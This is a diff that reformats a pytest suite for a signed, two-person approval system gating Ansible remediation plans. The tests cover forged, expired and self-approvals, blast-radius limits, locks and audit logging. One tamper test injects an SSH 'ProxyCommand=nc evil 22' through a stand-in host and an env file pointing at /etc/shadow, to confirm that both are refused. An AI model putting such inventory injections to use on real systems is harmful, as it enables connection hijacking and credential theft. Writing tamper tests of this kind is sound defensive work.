@@ -1,4 +1,5 @@
 """Signed requests and approvals, and apply's refusals that need no host: nothing runs, every refusal is audited."""
+
 from __future__ import annotations
 
 import dataclasses
@@ -34,8 +35,9 @@ def _problem(path: Path, policy: Policy, audit: AuditLog, ttl: float = 3600.0) -
     return "" if problem is None else f"{problem.kind}: {problem.text}"
 
 
-def test_a_second_person_signs_the_approval_and_openssh_verifies_it(plan_path: Path, keys: Any, policy: Policy,
-                                                                    audit: AuditLog, tmp_path: Path) -> None:
+def test_a_second_person_signs_the_approval_and_openssh_verifies_it(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, tmp_path: Path
+) -> None:
     plan, approval = approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
     assert (approval.approver, approval.requester, approval.break_glass) == ("bob", "alice", None)
     saved = load_plan(plan_path)
@@ -45,15 +47,32 @@ def test_a_second_person_signs_the_approval_and_openssh_verifies_it(plan_path: P
     # The test checks the signature with OpenSSH itself, not through our code.
     signed = saved.signed("approve")[0]
     (tmp_path / "a.sig").write_text(signed.signature)
-    done = subprocess.run(["ssh-keygen", "-Y", "verify", "-f", str(keys.allowed_signers), "-I", "bob", "-n", NAMESPACE,
-                           "-s", str(tmp_path / "a.sig")], input=signed.statement.message(), capture_output=True, check=False)
+    done = subprocess.run(
+        [
+            "ssh-keygen",
+            "-Y",
+            "verify",
+            "-f",
+            str(keys.allowed_signers),
+            "-I",
+            "bob",
+            "-n",
+            NAMESPACE,
+            "-s",
+            str(tmp_path / "a.sig"),
+        ],
+        input=signed.statement.message(),
+        capture_output=True,
+        check=False,
+    )
     assert done.returncode == 0 and b'Good "incident-collector" signature for bob' in done.stdout
     statement = json.loads(signed.statement.message())
     assert statement["plan_hash"] == plan.hash and statement["role"] == "approve" and statement["expires"]
 
 
-def test_self_approval_under_any_name_is_refused_and_audited(plan_path: Path, keys: Any, policy: Policy,
-                                                             audit: AuditLog) -> None:
+def test_self_approval_under_any_name_is_refused_and_audited(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog
+) -> None:
     with pytest.raises(Refused, match="alice requested this plan and cannot approve it"):
         approve_plan(plan_path, keys.signer("alice"), policy, audit=audit)
     with pytest.raises(SignatureError, match="--as bob does not match the key's principal alice"):
@@ -67,24 +86,36 @@ def test_an_unlisted_key_signs_nothing(plan_path: Path, keys: Any, policy: Polic
     with pytest.raises(SignatureError, match="not in allowed_signers .*key SHA256:"):
         approve_plan(plan_path, keys.signer("mallory"), policy, audit=audit)
     assert len(load_plan(plan_path).statements) == 1 and _events(audit) == ["plan", "approve-refused"]
-    assert list(audit.records())[-1]["kind"] == "unsigned" and list(audit.records())[-1]["actor"] == "unverified"
+    assert (
+        list(audit.records())[-1]["kind"] == "unsigned" and list(audit.records())[-1]["actor"] == "unverified"
+    )
 
 
-def test_break_glass_only_for_break_glass_principals(inventory_file: Path, tmp_path: Path, keys: Any,
-                                                     policy: Policy, audit: AuditLog,
-                                                     make_plan: Callable[..., Plan]) -> None:
+def test_break_glass_only_for_break_glass_principals(
+    inventory_file: Path,
+    tmp_path: Path,
+    keys: Any,
+    policy: Policy,
+    audit: AuditLog,
+    make_plan: Callable[..., Plan],
+) -> None:
     own = request_plan(make_plan(inventory_file), tmp_path / "c.json", keys.signer("carol"), policy, audit)
-    _, approval = approve_plan(tmp_path / "c.json", keys.signer("carol"), policy, audit=audit,
-                               break_glass="sev1, nobody else awake")
+    _, approval = approve_plan(
+        tmp_path / "c.json", keys.signer("carol"), policy, audit=audit, break_glass="sev1, nobody else awake"
+    )
     assert approval.break_glass == "sev1, nobody else awake" and own.requester == "carol"
-    assert _events(audit)[-2:] == ["approve", "break-glass"] and _problem(tmp_path / "c.json", policy, audit) == ""
+    assert (
+        _events(audit)[-2:] == ["approve", "break-glass"]
+        and _problem(tmp_path / "c.json", policy, audit) == ""
+    )
     request_plan(make_plan(inventory_file), tmp_path / "a.json", keys.signer("alice"), policy, audit)
     with pytest.raises(Refused, match="alice may not break glass"):
         approve_plan(tmp_path / "a.json", keys.signer("alice"), policy, audit=audit, break_glass="me")
 
 
-def test_expired_revived_forged_and_edited_approvals_are_refused(plan_path: Path, keys: Any, policy: Policy,
-                                                                 audit: AuditLog, inventory_file: Path) -> None:
+def test_expired_revived_forged_and_edited_approvals_are_refused(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, inventory_file: Path
+) -> None:
     assert _problem(plan_path, policy, audit).startswith("unapproved")
     approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
     assert _problem(plan_path, policy, audit, ttl=0.0).startswith("expired")
@@ -100,10 +131,12 @@ def test_expired_revived_forged_and_edited_approvals_are_refused(plan_path: Path
     fake = keys.signer("mallory").sign(forged.statement.message())
     doc["statements"][1]["signature"] = fake
     plan_path.write_text(json.dumps(doc))
-    audit.append("approve", actor="bob", plan_hash=doc["hash"], approver="bob",
-                 signed=dict(doc["statements"][1]))
+    audit.append(
+        "approve", actor="bob", plan_hash=doc["hash"], approver="bob", signed=dict(doc["statements"][1])
+    )
     assert "unsigned" in _problem(plan_path, policy, audit) and "not in allowed_signers" in _problem(
-        plan_path, policy, audit)
+        plan_path, policy, audit
+    )
     # Edited parameters: the content no longer matches the hash; re-hashed, the signatures name the old hash.
     doc = json.loads(good)
     doc["params"]["size"] = 500
@@ -118,24 +151,33 @@ def test_expired_revived_forged_and_edited_approvals_are_refused(plan_path: Path
     assert _problem(plan_path, policy, AuditLog(policy.audit_log + ".other")).startswith("unapproved")
 
 
-def test_apply_refuses_before_touching_any_host(plan_path: Path, keys: Any, policy: Policy, audit: AuditLog,
-                                                settings: Settings) -> None:
+def test_apply_refuses_before_touching_any_host(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, settings: Settings
+) -> None:
     with pytest.raises(Refused, match="not approved.*nothing was changed"):
         apply_plan(plan_path, settings, signer=keys.signer("bob"), policy=policy, collect_after=False)
     assert _events(audit)[-1] == "apply-refused" and list(audit.records())[-1]["kind"] == "unapproved"
 
 
-def test_an_approval_is_consumed_by_its_apply(plan_path: Path, keys: Any, policy: Policy, audit: AuditLog) -> None:
+def test_an_approval_is_consumed_by_its_apply(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog
+) -> None:
     _, approval = approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
-    audit.append("apply-start", actor="alice", plan_hash=approval.signed.statement.plan_hash, run="r1",
-                 approval=approval.digest)
+    audit.append(
+        "apply-start",
+        actor="alice",
+        plan_hash=approval.signed.statement.plan_hash,
+        run="r1",
+        approval=approval.digest,
+    )
     assert _problem(plan_path, policy, audit).startswith("consumed: the approval by bob was already used")
     approve_plan(plan_path, keys.signer("carol"), policy, audit=audit)  # a fresh approval: runnable again
     assert _problem(plan_path, policy, audit) == ""
 
 
-def test_binding_names_what_changed_after_approval(plan_path: Path, keys: Any, policy: Policy, audit: AuditLog,
-                                                   inventory_file: Path) -> None:
+def test_binding_names_what_changed_after_approval(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, inventory_file: Path
+) -> None:
     approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
     approved = load_plan(plan_path)
     action = get_action("pool-resize")
@@ -144,22 +186,50 @@ def test_binding_names_what_changed_after_approval(plan_path: Path, keys: Any, p
     original = inventory_file.read_text()
     edits = {
         "ansible_host": original.replace("app1: {ansible_host: 127.0.0.1", "app1: {ansible_host: 10.9.9.9"),
-        "proxy": original.replace("app1: {", "app1: {ansible_ssh_common_args: '-o ProxyCommand=nc evil 22', "),
+        "proxy": original.replace(
+            "app1: {", "app1: {ansible_ssh_common_args: '-o ProxyCommand=nc evil 22', "
+        ),
         "env_file": original.replace("app1: {", "app1: {collector_env_file: /etc/shadow, "),
     }
     for name, text in edits.items():
         inventory_file.write_text(text)
-        with pytest.raises(Refused, match=r"changed since the plan was approved: inventory file .* changed; "
-                                          r"connection/collector_\* variables of app1 changed"):
-            preflight(approved, action, policy, limits, audit, verifier, max_hosts=None,
-                      inv=load_inventory(str(inventory_file)))
+        with pytest.raises(
+            Refused,
+            match=r"changed since the plan was approved: inventory file .* changed; "
+            r"connection/collector_\* variables of app1 changed",
+        ):
+            preflight(
+                approved,
+                action,
+                policy,
+                limits,
+                audit,
+                verifier,
+                max_hosts=None,
+                inv=load_inventory(str(inventory_file)),
+            )
         assert list(audit.records())[-1]["kind"] == "changed-plan", name
     inventory_file.write_text(original)
-    preflight(approved, action, policy, limits, audit, verifier, max_hosts=None, inv=load_inventory(str(inventory_file)))
+    preflight(
+        approved,
+        action,
+        policy,
+        limits,
+        audit,
+        verifier,
+        max_hosts=None,
+        inv=load_inventory(str(inventory_file)),
+    )
 
 
-def test_playbook_edited_after_approval_is_refused(inventory_file: Path, tmp_path: Path, keys: Any, policy: Policy,
-                                                   audit: AuditLog, make_plan: Callable[..., Plan]) -> None:
+def test_playbook_edited_after_approval_is_refused(
+    inventory_file: Path,
+    tmp_path: Path,
+    keys: Any,
+    policy: Policy,
+    audit: AuditLog,
+    make_plan: Callable[..., Plan],
+) -> None:
     import shutil
 
     from collector.paths import resource
@@ -169,22 +239,38 @@ def test_playbook_edited_after_approval_is_refused(inventory_file: Path, tmp_pat
     shutil.copytree(resource("playbooks"), books)
     own = dataclasses.replace(policy, playbooks_dir=str(books))
     plan = make_plan(inventory_file)
-    plan.binding = compute_binding(get_action("pool-resize"), load_inventory(str(inventory_file)), plan.targets, books)
+    plan.binding = compute_binding(
+        get_action("pool-resize"), load_inventory(str(inventory_file)), plan.targets, books
+    )
     plan.hash = plan.compute_hash()
     request_plan(plan, tmp_path / "p.json", keys.signer("alice"), own, audit)
     approve_plan(tmp_path / "p.json", keys.signer("bob"), own, audit=audit)
-    for edited in (books / "remediate" / "pool-resize.yml", books / "remediate" / "tasks" / "wait_healthy.yml",
-                   books / "remediate" / "library" / "collector_change.py"):
+    for edited in (
+        books / "remediate" / "pool-resize.yml",
+        books / "remediate" / "tasks" / "wait_healthy.yml",
+        books / "remediate" / "library" / "collector_change.py",
+    ):
         keep = edited.read_text()
         edited.write_text(keep + "\n# edited\n")
-        with pytest.raises(Refused, match=f"playbook file remediate/{edited.relative_to(books / 'remediate')} changed"):
-            preflight(load_plan(tmp_path / "p.json"), get_action("pool-resize"), own, own.limits(), audit,
-                      Verifier(own.signers_path()), max_hosts=None, inv=load_inventory(str(inventory_file)))
+        with pytest.raises(
+            Refused, match=f"playbook file remediate/{edited.relative_to(books / 'remediate')} changed"
+        ):
+            preflight(
+                load_plan(tmp_path / "p.json"),
+                get_action("pool-resize"),
+                own,
+                own.limits(),
+                audit,
+                Verifier(own.signers_path()),
+                max_hosts=None,
+                inv=load_inventory(str(inventory_file)),
+            )
         edited.write_text(keep)
 
 
-def test_limits_only_tighten_and_blast_radius(plan_path: Path, keys: Any, policy: Policy, audit: AuditLog,
-                                              monkeypatch: pytest.MonkeyPatch) -> None:
+def test_limits_only_tighten_and_blast_radius(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, monkeypatch: pytest.MonkeyPatch
+) -> None:
     from collector.config import load_settings
 
     monkeypatch.setenv("COLLECTOR_RESTART_MIN_INTERVAL_S", "0")
@@ -194,16 +280,27 @@ def test_limits_only_tighten_and_blast_radius(plan_path: Path, keys: Any, policy
     monkeypatch.setenv("COLLECTOR_AUDIT_LOG", "/tmp/elsewhere.jsonl")
     loose = policy.limits(load_settings())
     assert (loose.restart_min_interval_s, loose.blast_radius, loose.approval_ttl_s, loose.batch_size) == (
-        60.0, 10, 3600.0, 2)
+        60.0,
+        10,
+        3600.0,
+        2,
+    )
     monkeypatch.setenv("COLLECTOR_BLAST_RADIUS", "1")
     monkeypatch.setenv("COLLECTOR_RESTART_MIN_INTERVAL_S", "600")
     tight = policy.limits(load_settings())
     assert (tight.blast_radius, tight.restart_min_interval_s) == (1, 600.0)
     approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
-    approved, inv, verifier = load_plan(plan_path), load_inventory(load_plan(plan_path).inventory), Verifier(
-        policy.signers_path())
-    with pytest.raises(Refused, match="more than the blast-radius limit of 1; raise it explicitly with --max-hosts 2"):
-        preflight(approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=None, inv=inv)
+    approved, inv, verifier = (
+        load_plan(plan_path),
+        load_inventory(load_plan(plan_path).inventory),
+        Verifier(policy.signers_path()),
+    )
+    with pytest.raises(
+        Refused, match="more than the blast-radius limit of 1; raise it explicitly with --max-hosts 2"
+    ):
+        preflight(
+            approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=None, inv=inv
+        )
     preflight(approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=2, inv=inv)
     with pytest.raises(Refused, match="above the policy's max_hosts 20"):
         preflight(approved, get_action("pool-resize"), policy, tight, audit, verifier, max_hosts=21, inv=inv)
@@ -217,16 +314,19 @@ def test_jinja_in_a_parameter_is_refused_at_plan_time() -> None:
 
 
 def test_a_second_concurrent_apply_is_refused_naming_the_holder(tmp_path: Path) -> None:
-    with plan_lock(tmp_path, "h" * 64, {"principal": "bob", "pid": 42, "host": "ctl", "since": "T"}), \
-            pytest.raises(LockHeld, match=r"bob \(pid 42 on ctl, since T\)"), \
-            plan_lock(tmp_path, "h" * 64, {"principal": "carol"}):
+    with (
+        plan_lock(tmp_path, "h" * 64, {"principal": "bob", "pid": 42, "host": "ctl", "since": "T"}),
+        pytest.raises(LockHeld, match=r"bob \(pid 42 on ctl, since T\)"),
+        plan_lock(tmp_path, "h" * 64, {"principal": "carol"}),
+    ):
         pass
     with plan_lock(tmp_path, "h" * 64, {"principal": "carol"}):  # released afterwards
         pass
 
 
-def test_apply_refuses_a_broken_audit_log(plan_path: Path, keys: Any, policy: Policy, audit: AuditLog,
-                                          settings: Settings) -> None:
+def test_apply_refuses_a_broken_audit_log(
+    plan_path: Path, keys: Any, policy: Policy, audit: AuditLog, settings: Settings
+) -> None:
     approve_plan(plan_path, keys.signer("bob"), policy, audit=audit)
     lines = audit.path.read_text().splitlines()
     record = json.loads(lines[0])
@@ -259,8 +359,12 @@ def test_plans_and_audit_log_are_private(plan_path: Path, policy: Policy) -> Non
 
 
 def _write_policy(path: Path, keys: Any, **extra: object) -> Path:
-    doc = {"allowed_signers": str(keys.allowed_signers), "requesters": ["alice"], "approvers": {"*": ["bob"]},
-           **extra}
+    doc = {
+        "allowed_signers": str(keys.allowed_signers),
+        "requesters": ["alice"],
+        "approvers": {"*": ["bob"]},
+        **extra,
+    }
     path.write_text(yaml.safe_dump(doc))
     path.chmod(0o644)
     return path
@@ -277,7 +381,9 @@ def test_policy_file_ownership_and_shape(tmp_path: Path, keys: Any) -> None:
     path.chmod(0o644)
     if os.geteuid() == 0:
         os.chown(path, 1000, 1000)
-        with pytest.raises(PolicyError, match="owned by uid 1000, not root; refusing it while running as root"):
+        with pytest.raises(
+            PolicyError, match="owned by uid 1000, not root; refusing it while running as root"
+        ):
             load_policy(path)
         os.chown(path, 0, 0)
     path.write_text("allowed_signers: [unclosed\n")
@@ -321,14 +427,21 @@ def test_bad_keys_are_one_line(tmp_path: Path, keys: Any, monkeypatch: pytest.Mo
         Verifier(keys.allowed_signers).principal(b"hello", broken)
 
 
-def test_unsigned_plan_copied_from_a_signed_one_is_refused(plan: Plan, tmp_path: Path, policy: Policy,
-                                                           audit: AuditLog) -> None:
+def test_unsigned_plan_copied_from_a_signed_one_is_refused(
+    plan: Plan, tmp_path: Path, policy: Policy, audit: AuditLog
+) -> None:
     path = save_plan(plan, tmp_path / "raw.json")
     assert _problem(path, policy, audit).startswith("unsigned: plan")
 
 
-def test_only_the_policys_approvers_approve(inventory_file: Path, tmp_path: Path, keys: Any, policy: Policy,
-                                            audit: AuditLog, make_plan: Callable[..., Plan]) -> None:
+def test_only_the_policys_approvers_approve(
+    inventory_file: Path,
+    tmp_path: Path,
+    keys: Any,
+    policy: Policy,
+    audit: AuditLog,
+    make_plan: Callable[..., Plan],
+) -> None:
     request_plan(make_plan(inventory_file), tmp_path / "c.json", keys.signer("carol"), policy, audit)
     with pytest.raises(Refused, match="alice may not approve pool-resize"):
         approve_plan(tmp_path / "c.json", keys.signer("alice"), policy, audit=audit)
